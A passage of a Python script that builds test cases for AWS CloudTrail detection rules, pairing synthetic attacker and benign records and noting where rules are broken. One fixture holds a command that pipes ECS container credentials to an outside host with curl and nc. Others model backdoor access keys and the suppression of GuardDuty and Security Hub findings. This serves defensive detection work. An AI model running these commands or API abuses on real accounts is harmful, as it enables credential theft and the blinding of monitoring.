    "aws_ec2_disable_encryption.yml": {
        "match": [ec2("DisableEbsEncryptionByDefault", iam_user("mallory"), {"DisableEbsEncryptionByDefaultRequest": ""}, {"DisableEbsEncryptionByDefaultResponse": {"xmlns": "http://ec2.amazonaws.com/doc/2016-11-15/", "ebsEncryptionByDefault": False, "requestId": "0f9c3c5a-6b1d-4e2f-8a7b-9c0d1e2f3a4b"}}, ip=ATTACKER_IP)],
        "no_match": [ec2("EnableEbsEncryptionByDefault", sso(), {"EnableEbsEncryptionByDefaultRequest": ""}, {"EnableEbsEncryptionByDefaultResponse": {"xmlns": "http://ec2.amazonaws.com/doc/2016-11-15/", "ebsEncryptionByDefault": True, "requestId": "1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d"}})],
    },
    "aws_ec2_import_key_pair_activity.yml": {
        "match": [ec2("ImportKeyPair", iam_user("mallory"), {"keyName": "support", "publicKeyMaterial": "<sensitiveDataRemoved>"}, {"keyName": "support", "keyFingerprint": "1f:51:ae:28:bf:89:e9:d8:1f:25:5d:37:2d:7d:b8:ca", "keyPairId": "key-0a1b2c3d4e5f60718"}, ip=ATTACKER_IP)],
        "no_match": [ec2("CreateKeyPair", sso(), {"keyName": "bastion", "keyType": "ed25519", "keyFormat": "pem"}, {"keyName": "bastion", "keyFingerprint": "Pw7gJy0rT2qgFy8QkB3pDbOOxK8cLxWmB3tF2Yx8a1w=", "keyPairId": "key-0b2c3d4e5f6071829", "keyMaterial": "<sensitiveDataRemoved>"})],
    },
    "aws_ec2_startup_script_change.yml": {
        "match": [ec2("ModifyInstanceAttribute", iam_user("mallory"), {"instanceId": "i-0a1b2c3d4e5f60718", "attribute": "userData", "value": "<sensitiveDataRemoved>"}, {"_return": True}, ip=ATTACKER_IP)],
        "no_match": [
            ec2("ModifyInstanceAttribute", sso(), {"instanceId": "i-0a1b2c3d4e5f60718", "instanceType": {"value": "m5.large"}}, {"_return": True}),
            ec2("ModifyInstanceAttribute", iam_user("mallory"), {"instanceId": "i-0a1b2c3d4e5f60718", "userData": "<sensitiveDataRemoved>"}, {"_return": True}, ip=ATTACKER_IP),
        ],
        "note": "The rule matches `attribute: userData` (`--attribute userData --value ...`); the same change sent as `--user-data` is recorded as `requestParameters.userData` and is not matched (second no_match record). Vigil's own vigil-ec2-instance-user-data-modified matches both.",
    },
    "aws_ec2_vm_export_failure.yml": {
        "match": [instance_export(None)],
        "no_match": [instance_export(("Client.InvalidParameter", "The specified instance was not imported from a VM: i-0a1b2c3d4e5f60718"))],
        "note": "Despite its title, the rule matches export tasks that did not fail (no errorMessage, no errorCode, no `Failure` in the response), as its description says: an export was attempted.",
    },
    "aws_ecs_task_definition_cred_endpoint_query.yml": {
        "match": [task_definition("RegisterTaskDefinition", ["/bin/sh", "-c", "curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc 198.51.100.203 4444"])],
        "no_match": [task_definition("RegisterTaskDefinition", ["gunicorn", "--bind", "0.0.0.0:8080", "app:server"])],
    },
    "aws_efs_fileshare_modified_or_deleted.yml": {
        "match": [record("elasticfilesystem.amazonaws.com", "DeleteFileSystem", iam_user("mallory"), {"fileSystemId": "fs-0a1b2c3d4e5f60718"}, None, ip=ATTACKER_IP)],
        "no_match": [record("elasticfilesystem.amazonaws.com", "CreateFileSystem", sso(), {"creationToken": "shared-home", "performanceMode": "generalPurpose", "encrypted": True}, {"fileSystemId": "fs-0b2c3d4e5f6071829", "lifeCycleState": "creating"}, agent=TERRAFORM)],
    },
    "aws_efs_fileshare_mount_modified_or_deleted.yml": {
        "match": [record("elasticfilesystem.amazonaws.com", "DeleteMountTarget", iam_user("mallory"), {"mountTargetId": "fsmt-0a1b2c3d4e5f60718"}, None, ip=ATTACKER_IP)],
        "no_match": [record("elasticfilesystem.amazonaws.com", "CreateMountTarget", sso(), {"fileSystemId": "fs-0a1b2c3d4e5f60718", "subnetId": "subnet-0a1b2c3d4e5f60718"}, {"mountTargetId": "fsmt-0b2c3d4e5f6071829", "lifeCycleState": "creating"}, agent=TERRAFORM)],
    },
    "aws_eks_cluster_created_or_deleted.yml": {
        "match": [
            record("eks.amazonaws.com", "CreateCluster", sso(), {"name": "payments", "version": "1.29", "roleArn": f"arn:aws:iam::{ACCOUNT}:role/eks-cluster", "resourcesVpcConfig": {"subnetIds": ["subnet-0a1b2c3d4e5f60718", "subnet-0b2c3d4e5f6071829"]}}, {"cluster": {"name": "payments", "arn": f"arn:aws:eks:eu-west-1:{ACCOUNT}:cluster/payments", "status": "CREATING"}}, agent=TERRAFORM),
            record("eks.amazonaws.com", "DeleteCluster", iam_user("mallory"), {"name": "payments"}, {"cluster": {"name": "payments", "status": "DELETING"}}, ip=ATTACKER_IP),
        ],
        "no_match": [record("eks.amazonaws.com", "UpdateClusterVersion", sso(), {"name": "payments", "version": "1.30"}, {"update": {"id": "b5f0ba18-9a87-4450-b5a0-825e6e84496f", "status": "InProgress", "type": "VersionUpdate"}}, agent=TERRAFORM)],
    },
    "aws_elasticache_security_group_created.yml": {
        "match": [record("elasticache.amazonaws.com", "CreateCacheSecurityGroup", sso(), {"cacheSecurityGroupName": "legacy-cache", "description": "EC2-Classic cache"}, {"ownerId": ACCOUNT, "cacheSecurityGroupName": "legacy-cache", "description": "EC2-Classic cache", "eC2SecurityGroups": []})],
        "no_match": [record("elasticache.amazonaws.com", "CreateCacheSubnetGroup", sso(), {"cacheSubnetGroupName": "cache-private", "cacheSubnetGroupDescription": "private", "subnetIds": ["subnet-0a1b2c3d4e5f60718"]}, {"cacheSubnetGroupName": "cache-private", "vpcId": "vpc-0a1b2c3d4e5f60718"})],
    },
    "aws_elasticache_security_group_modified_or_deleted.yml": {
        "match": [
            record("elasticache.amazonaws.com", "AuthorizeCacheSecurityGroupIngress", sso(), {"cacheSecurityGroupName": "legacy-cache", "eC2SecurityGroupName": "web", "eC2SecurityGroupOwnerId": OUTSIDE}, {"ownerId": ACCOUNT, "cacheSecurityGroupName": "legacy-cache", "eC2SecurityGroups": [{"status": "authorizing", "eC2SecurityGroupName": "web", "eC2SecurityGroupOwnerId": OUTSIDE}]}),
            record("elasticache.amazonaws.com", "DeleteCacheSecurityGroup", sso(), {"cacheSecurityGroupName": "legacy-cache"}, None),
        ],
        "no_match": [record("elasticache.amazonaws.com", "DescribeCacheSecurityGroups", sso(), {"cacheSecurityGroupName": "legacy-cache"}, None, read_only=True)],
    },
    "aws_enum_buckets.yml": {
        "match": [s3("ListBuckets", iam_user("ci-legacy"), "", ip=ATTACKER_IP, agent=BOTO3, read_only=True) | {"requestParameters": {"Host": "s3.eu-west-1.amazonaws.com"}, "resources": []}],
        "no_match": [s3("ListBuckets", sso(), "", read_only=True, agent=CONSOLE) | {"requestParameters": {"Host": "s3.eu-west-1.amazonaws.com"}, "resources": []}],
    },
    "aws_guardduty_disruption.yml": {
        "match": [record("guardduty.amazonaws.com", "CreateIPSet", iam_user("mallory"), {"detectorId": "12abc34d567e8fa901bc2d34e56789f0", "name": "trusted", "format": "TXT", "location": "https://s3.amazonaws.com/attacker-bucket-7731/ips.txt", "activate": True}, {"ipSetId": "0cb0141ab9fbde177613ab9436212e90"}, ip=ATTACKER_IP)],
        "no_match": [record("guardduty.amazonaws.com", "CreateThreatIntelSet", sso(), {"detectorId": "12abc34d567e8fa901bc2d34e56789f0", "name": "feeds", "format": "TXT", "location": "https://s3.amazonaws.com/secops-feeds/bad.txt", "activate": True}, {"threatIntelSetId": "1ab2cd3ef4ab5cd6ef7ab8cd9ef0ab1c"})],
    },
    "aws_iam_backdoor_users_keys.yml": {
        "match": [
            record("iam.amazonaws.com", "CreateAccessKey", iam_user("mallory"), {"userName": "ci-legacy"}, {"accessKey": {"accessKeyId": "AKIAI44QH8DHBEXAMPLE", "status": "Active", "userName": "ci-legacy", "createDate": "Mar 4, 2025, 9:20:00 AM"}}, region="us-east-1", ip=ATTACKER_IP),
            record("iam.amazonaws.com", "CreateAccessKey", iam_user("alice"), None, {"accessKey": {"accessKeyId": "AKIAJ55RI9EICEXAMPLE", "status": "Active", "userName": "alice", "createDate": "Mar 4, 2025, 9:25:00 AM"}}, region="us-east-1", agent=CONSOLE),
        ],
        "no_match": [record("iam.amazonaws.com", "ListAccessKeys", iam_user("mallory"), {"userName": "ci-legacy"}, None, region="us-east-1", ip=ATTACKER_IP, read_only=True)],
        "note": "The filter `userIdentity.arn|contains: responseElements.accessKey.userName` compares with that literal text, not with the field (that needs `|fieldref|contains`), so it never excludes anything: a user creating their own key (second match record) matches too.",
    },
    "aws_iam_s3browser_loginprofile_creation.yml": {
        "match": [record("iam.amazonaws.com", "CreateLoginProfile", iam_user("mallory"), {"userName": "ci-legacy", "passwordResetRequired": False}, {"loginProfile": {"userName": "ci-legacy", "createDate": "Mar 4, 2025, 9:30:00 AM", "passwordResetRequired": False}}, region="us-east-1", ip=ATTACKER_IP, agent=S3_BROWSER)],
        "no_match": [record("iam.amazonaws.com", "CreateLoginProfile", sso(), {"userName": "bob", "passwordResetRequired": True}, {"loginProfile": {"userName": "bob", "createDate": "Mar 4, 2025, 9:30:00 AM", "passwordResetRequired": True}}, region="us-east-1", agent=CONSOLE)],
    },
    "aws_iam_s3browser_templated_s3_bucket_policy_creation.yml": {
        "match": [record("iam.amazonaws.com", "PutUserPolicy", iam_user("mallory"), {"userName": "ci-legacy", "policyName": "s3-access", "policyDocument": POLICY_TEMPLATE}, None, region="us-east-1", ip=ATTACKER_IP, agent=S3_BROWSER)],
        "no_match": [record("iam.amazonaws.com", "PutUserPolicy", iam_user("mallory"), {"userName": "ci-legacy", "policyName": "s3-access", "policyDocument": POLICY_TEMPLATE.replace("<YOUR-BUCKET-NAME>", "billing-exports-7731")}, None, region="us-east-1", ip=ATTACKER_IP, agent=S3_BROWSER)],
    },
    "aws_iam_s3browser_user_or_accesskey_creation.yml": {
        "match": [
            record("iam.amazonaws.com", "CreateUser", iam_user("mallory"), {"userName": "backup-svc"}, {"user": {"path": "/", "userName": "backup-svc", "userId": "AIDAQ3EGWXYZEXAMPLE", "arn": f"arn:aws:iam::{ACCOUNT}:user/backup-svc", "createDate": "Mar 4, 2025, 9:40:00 AM"}}, region="us-east-1", ip=ATTACKER_IP, agent=S3_BROWSER),
        ],
        "no_match": [record("iam.amazonaws.com", "CreateUser", sso(), {"userName": "backup-svc"}, {"user": {"path": "/", "userName": "backup-svc", "userId": "AIDAQ3EGWXYZEXAMPLE", "arn": f"arn:aws:iam::{ACCOUNT}:user/backup-svc", "createDate": "Mar 4, 2025, 9:40:00 AM"}}, region="us-east-1", agent=TERRAFORM)],
    },
    "aws_kms_import_key_material.yml": {
        "match": [
            record("kms.amazonaws.com", "ImportKeyMaterial", iam_user("mallory"), {"keyId": "arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab", "expirationModel": "KEY_MATERIAL_DOES_NOT_EXPIRE"}, None, ip=ATTACKER_IP, resources=[{"accountId": ACCOUNT, "type": "AWS::KMS::Key", "ARN": "arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"}]),
        ],
        "no_match": [
            record("kms.amazonaws.com", "GetParametersForImport", iam_user("mallory"), {"keyId": "1234abcd-12ab-34cd-56ef-1234567890ab", "wrappingAlgorithm": "RSAES_OAEP_SHA_256", "wrappingKeySpec": "RSA_4096"}, None, ip=ATTACKER_IP, read_only=True),
        ],
    },
    "aws_lambda_function_url.yml": {
        "match": [record("lambda.amazonaws.com", "CreateFunctionUrlConfig", iam_user("mallory"), {"functionName": "orders-api", "authType": "NONE"}, {"functionUrl": "https://abcdefghijklmnopqrstuvwxyz0123.lambda-url.eu-west-1.on.aws/", "functionArn": f"arn:aws:lambda:eu-west-1:{ACCOUNT}:function:orders-api", "authType": "NONE", "creationTime": "2025-03-04T09:50:00.000000Z"}, ip=ATTACKER_IP, agent=BOTO3)],
        "no_match": [record("lambda.amazonaws.com", "GetFunctionUrlConfig", sso(), {"functionName": "orders-api"}, None, read_only=True, agent=CONSOLE)],
    },
    "aws_new_lambda_layer_attached.yml": {
        "match": [update_function_configuration({"layers": [f"arn:aws:lambda:eu-west-1:{OUTSIDE}:layer:telemetry:3"]})],
        "no_match": [update_function_configuration({"timeout": 30, "memorySize": 256})],
    },
    "aws_passed_role_to_glue_development_endpoint.yml": {
        "match": [record("glue.amazonaws.com", "CreateDevEndpoint", iam_user("mallory"), {"endpointName": "dev-1", "roleArn": f"arn:aws:iam::{ACCOUNT}:role/glue-admin", "publicKey": "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC mallory", "numberOfNodes": 2}, {"endpointName": "dev-1", "status": "PROVISIONING", "roleArn": f"arn:aws:iam::{ACCOUNT}:role/glue-admin"}, ip=ATTACKER_IP, agent=BOTO3)],
        "no_match": [record("glue.amazonaws.com", "GetDevEndpoints", sso(), {"maxResults": 100}, None, read_only=True, agent=CONSOLE)],
    },
    "aws_rds_change_master_password.yml": {
        "match": [modify_db({"masterUserPassword": "****"}, {"masterUserPassword": "****"})],
        "no_match": [modify_db({"dBInstanceClass": "db.r6g.xlarge"}, {"dBInstanceClass": "db.r6g.xlarge"})],
    },
    "aws_rds_dbcluster_actions.yml": {
        "match": [
            record("rds.amazonaws.com", "ModifyDBCluster", sso(), {"dBClusterIdentifier": "analytics", "applyImmediately": True, "backupRetentionPeriod": 1}, {"dBClusterIdentifier": "analytics", "status": "available", "engine": "aurora-postgresql"}),
            record("rds.amazonaws.com", "DeleteDBCluster", iam_user("mallory"), {"dBClusterIdentifier": "analytics", "skipFinalSnapshot": True}, {"dBClusterIdentifier": "analytics", "status": "deleting", "engine": "aurora-postgresql"}, ip=ATTACKER_IP),
        ],
        "no_match": [record("rds.amazonaws.com", "CreateDBCluster", sso(), {"dBClusterIdentifier": "analytics", "engine": "aurora-postgresql", "masterUsername": "postgres", "masterUserPassword": "****"}, {"dBClusterIdentifier": "analytics", "status": "creating", "engine": "aurora-postgresql"}, agent=TERRAFORM)],
    },
    "aws_rds_public_db_restore.yml": {
        "match": [restore_db(True)],
        "no_match": [restore_db(False)],
    },
    "aws_root_account_usage.yml": {
        "match": [
            s3("ListBuckets", root(), "", read_only=True, agent=CONSOLE) | {"requestParameters": {"Host": "s3.eu-west-1.amazonaws.com"}, "resources": []},
            console_login(root(), ok=True, mfa="Yes"),
        ],
        "no_match": [
            record(
                "signin.amazonaws.com",
                "CredentialVerification",
                root(),
                None,
                None,
                region="us-east-1",
                agent=BROWSER,
                extra={"serviceEventDetails": {"CredentialType": "PASSWORD"}, "additionalEventData": {"MobileVersion": "No"}},
                event_type="AwsServiceEvent",
            ),
            s3("ListBuckets", iam_user("alice"), "", read_only=True, agent=CONSOLE) | {"requestParameters": {"Host": "s3.eu-west-1.amazonaws.com"}, "resources": []},
        ],
    },
    "aws_route_53_domain_transferred_lock_disabled.yml": {
        "match": [],
        "no_match": [record("route53domains.amazonaws.com", "DisableDomainTransferLock", iam_user("mallory"), {"domainName": "example.com"}, {"operationId": "b8c1f0e2-4a3d-4b5c-9d6e-7f8a9b0c1d2e"}, region="us-east-1", ip=ATTACKER_IP)],
        "note": "The rule requires `eventSource: route53.amazonaws.com`; domain registration calls (Route 53 Domains) are recorded with `route53domains.amazonaws.com`, so it matches no CloudTrail record. The no_match record is the call its author describes.",
    },
    "aws_route_53_domain_transferred_to_another_account.yml": {
        "match": [],
        "no_match": [record("route53domains.amazonaws.com", "TransferDomainToAnotherAwsAccount", iam_user("mallory"), {"domainName": "example.com", "accountId": OUTSIDE}, {"operationId": "c9d2a1f3-5b4e-4c6d-8e7f-9a0b1c2d3e4f", "password": "HIDDEN_DUE_TO_SECURITY_REASONS"}, region="us-east-1", ip=ATTACKER_IP)],
        "note": "As aws_route_53_domain_transferred_lock_disabled: the rule names `route53.amazonaws.com`, but Route 53 Domains records `route53domains.amazonaws.com`.",
    },
    "aws_s3_data_management_tampering.yml": {
        "match": [
            s3("PutBucketLogging", iam_user("mallory"), "billing-exports-7731", {"logging": "", "BucketLoggingStatus": {"xmlns": "http://s3.amazonaws.com/doc/2006-03-01/"}}, ip=ATTACKER_IP),
            s3("RestoreObject", iam_user("mallory"), "archive-7731", {"key": "2024/ledger.csv", "restore": "", "RestoreRequest": {"Days": 7, "GlacierJobParameters": {"Tier": "Expedited"}}}, ip=ATTACKER_IP, data=True),
        ],
        "no_match": [
            s3("GetBucketLogging", sso(), "billing-exports-7731", {"logging": ""}, read_only=True, agent=CONSOLE),
            s3("PutBucketLifecycle", iam_user("mallory"), "billing-exports-7731", {"lifecycle": "", "LifecycleConfiguration": {"Rule": {"Status": "Enabled", "Expiration": {"Days": 1}, "Filter": {"Prefix": ""}, "ID": "expire"}}}, ip=ATTACKER_IP),
        ],
        "note": "Three of its names are not CloudTrail's: S3 records PutBucketEncryption, PutBucketLifecycle and PutBucketReplication, not PutEncryptionConfiguration, PutLifecycleConfiguration and PutReplicationConfiguration, so those changes are not matched (second no_match record).",
    },
    "aws_securityhub_finding_evasion.yml": {
        "match": [record("securityhub.amazonaws.com", "BatchUpdateFindings", iam_user("mallory"), {"findingIdentifiers": [{"id": "arn:aws:securityhub:eu-west-1:111122223333:subscription/aws-foundational-security-best-practices/v/1.0.0/S3.1/finding/9f0e1d2c", "productArn": "arn:aws:securityhub:eu-west-1::product/aws/securityhub"}], "workflow": {"status": "SUPPRESSED"}}, {"processedFindings": [{"id": "arn:aws:securityhub:eu-west-1:111122223333:subscription/aws-foundational-security-best-practices/v/1.0.0/S3.1/finding/9f0e1d2c"}], "unprocessedFindings": []}, ip=ATTACKER_IP)],
        "no_match": [record("securityhub.amazonaws.com", "GetFindings", sso(), {"filters": {"workflowStatus": [{"value": "NEW", "comparison": "EQUALS"}]}, "maxResults": 100}, None, read_only=True, agent=CONSOLE)],
    },
    "aws_snapshot_backup_exfiltration.yml": {
        "match": [ec2("ModifySnapshotAttribute", iam_user("mallory"), {"snapshotId": "snap-0a1b2c3d4e5f60718", "createVolumePermission": {"add": {"items": [{"userId": OUTSIDE}]}}, "attributeType": "CREATE_VOLUME_PERMISSION"}, {"_return": True}, ip=ATTACKER_IP)],
        "no_match": [ec2("DescribeSnapshotAttribute", sso(), {"snapshotId": "snap-0a1b2c3d4e5f60718", "attribute": "createVolumePermission"}, None, read_only=True)],
    },
    "aws_sso_idp_change.yml": {
        "match": [sso_directory("EnableExternalIdPConfigurationForDirectory"), sso_directory("DisassociateDirectory", "sso.amazonaws.com")],
        "no_match": [sso_directory("DescribeDirectory", read_only=True), sso_directory("ListInstances", "sso.amazonaws.com", read_only=True)],
    },
    "aws_sts_assumerole_misuse.yml": {
        "match": [ec2("DescribeInstances", sso(), {"instancesSet": {}, "filterSet": {}}, None, read_only=True, agent=CONSOLE)],
        "no_match": [ec2("DescribeInstances", iam_user("alice"), {"instancesSet": {}, "filterSet": {}}, None, read_only=True)],
        "note": "The rule matches every call made with a role's session (any AssumedRole identity whose issuer is a role); its description expects it to be tuned with the account's known roles.",
    },
    "aws_sts_getcalleridentity_trufflehog.yml": {
        "match": [record("sts.amazonaws.com", "GetCallerIdentity", iam_user("ci-legacy", "AKIA2OGYBAH6STEXAMPLE"), None, {"userId": "AIDA2OGYBAH6EXAMPLE", "account": ACCOUNT, "arn": f"arn:aws:iam::{ACCOUNT}:user/ci-legacy"}, ip=ATTACKER_IP, agent="TruffleHog/3.63.0", read_only=True)],
        "no_match": [record("sts.amazonaws.com", "GetCallerIdentity", iam_user("ci-legacy", "AKIA2OGYBAH6STEXAMPLE"), None, {"userId": "AIDA2OGYBAH6EXAMPLE", "account": ACCOUNT, "arn": f"arn:aws:iam::{ACCOUNT}:user/ci-legacy"}, agent=BOTO3, read_only=True)],
    },
    "aws_sts_getsessiontoken_misuse.yml": {
        "match": [record("sts.amazonaws.com", "GetSessionToken", iam_user("ci-legacy", "AKIA2OGYBAH6STEXAMPLE"), {"durationSeconds": 129600}, {"credentials": {"accessKeyId": "ASIA2OGYBAH6SEXAMPLE", "sessionToken": "<sensitiveDataRemoved>", "expiration": "Mar 5, 2025, 9:00:00 PM"}}, region="us-east-1", ip=ATTACKER_IP, agent=BOTO3, read_only=True)],
        "no_match": [record("sts.amazonaws.com", "GetSessionToken", root(), {"durationSeconds": 3600}, {"credentials": {"accessKeyId": "ASIAQ3EGUXLKZEXAMPLE", "sessionToken": "<sensitiveDataRemoved>", "expiration": "Mar 4, 2025, 10:00:00 AM"}}, region="us-east-1", read_only=True)],
    },
    "aws_susp_saml_activity.yml": {
        "match": [
            record(
                "sts.amazonaws.com",
                "AssumeRoleWithSAML",
                {"type": "SAMLUser", "principalId": "Q3Bva3l0a2VuRXhhbXBsZQ==:alice@example.com", "userName": "alice@example.com", "identityProvider": "Q3Bva3l0a2VuRXhhbXBsZQ=="},
                {"sAMLAssertionID": "_a1b2c3d4e5f6a7b8c9d0", "roleSessionName": "alice@example.com", "durationSeconds": 3600, "roleArn": f"arn:aws:iam::{ACCOUNT}:role/OktaAdmin", "principalArn": f"arn:aws:iam::{ACCOUNT}:saml-provider/Okta"},
                {"credentials": {"accessKeyId": "ASIAQ3EGSAMLEXAMPLE", "sessionToken": "<sensitiveDataRemoved>", "expiration": "Mar 4, 2025, 11:00:00 AM"}, "assumedRoleUser": {"assumedRoleId": "AROAQ3EGOKTAEXAMPLE:alice@example.com", "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/OktaAdmin/alice@example.com"}, "subject": "alice@example.com", "subjectType": "persistent", "issuer": "http://www.okta.com/exk1a2b3c4", "audience": "https://signin.aws.amazon.com/saml", "nameQualifier": "Q3Bva3l0a2VuRXhhbXBsZQ=="},
                region="us-east-1",
                agent=BROWSER,
                read_only=True,
            ),
            record("iam.amazonaws.com", "UpdateSAMLProvider", iam_user("mallory"), {"sAMLMetadataDocument": "<sensitiveDataRemoved>", "sAMLProviderArn": f"arn:aws:iam::{ACCOUNT}:saml-provider/Okta"}, {"sAMLProviderArn": f"arn:aws:iam::{ACCOUNT}:saml-provider/Okta"}, region="us-east-1", ip=ATTACKER_IP),
        ],
        "no_match": [
            record(
                "sts.amazonaws.com",
                "AssumeRoleWithWebIdentity",
                {"type": "WebIdentityUser", "principalId": "arn:aws:iam::111122223333:oidc-provider/token.actions.githubusercontent.com:sts.amazonaws.com:repo:example/app:ref:refs/heads/main", "userName": "repo:example/app:ref:refs/heads/main", "identityProvider": f"arn:aws:iam::{ACCOUNT}:oidc-provider/token.actions.githubusercontent.com"},
                {"roleArn": f"arn:aws:iam::{ACCOUNT}:role/github-deploy", "roleSessionName": "GitHubActions", "durationSeconds": 3600},
                {"credentials": {"accessKeyId": "ASIAQ3EGGHAEXAMPLE", "sessionToken": "<sensitiveDataRemoved>", "expiration": "Mar 4, 2025, 11:00:00 AM"}},
                region="us-east-1",
                ip="192.0.2.15",
                agent="aws-sdk-js/3.540.0",
                read_only=True,
            ),
        ],
    },
    "aws_update_login_profile.yml": {
        "match": [
            record("iam.amazonaws.com", "UpdateLoginProfile", iam_user("mallory"), {"userName": "alice", "passwordResetRequired": False}, None, region="us-east-1", ip=ATTACKER_IP),
        ],
        "no_match": [
            record("iam.amazonaws.com", "ChangePassword", iam_user("alice"), None, None, region="us-east-1", agent=CONSOLE),
            record("iam.amazonaws.com", "GetLoginProfile", iam_user("mallory"), {"userName": "alice"}, {"loginProfile": {"userName": "alice", "createDate": "Jan 9, 2025, 3:00:00 PM", "passwordResetRequired": False}}, region="us-east-1", ip=ATTACKER_IP, read_only=True),
        ],
        "note": "The filter `userIdentity.arn|fieldref: requestParameters.userName` compares a whole ARN with a user name, which are never equal, so it excludes nothing: a user resetting their own login profile with UpdateLoginProfile matches too.",
    },
}


def main() -> None:
    ids = {}
    for path in sorted(RULES.glob("*.yml")):
        match = re.search(r"^id:\s*(\S+)", path.read_text(), re.M)
        if not match:
            raise SystemExit(f"{path.name}: no id")
        ids[path.name] = match.group(1)
    missing = sorted(set(ids) - set(CASES))
    unknown = sorted(set(CASES) - set(ids))
    if missing or unknown:
        raise SystemExit(f"no cases for {missing}; cases for unknown files {unknown}")
    out = {}
    for name in sorted(CASES):
        case = CASES[name]
        entry = {"file": name, "match": case["match"], "no_match": case["no_match"]}
        if "note" in case:
            entry["note"] = case["note"]
        out[ids[name]] = entry
    OUT.write_text(json.dumps(out, indent=1) + "\n")
    print(f"{OUT}: {len(out)} rules, {sum(len(c['match']) + len(c['no_match']) for c in out.values())} records")


if __name__ == "__main__":
    main()
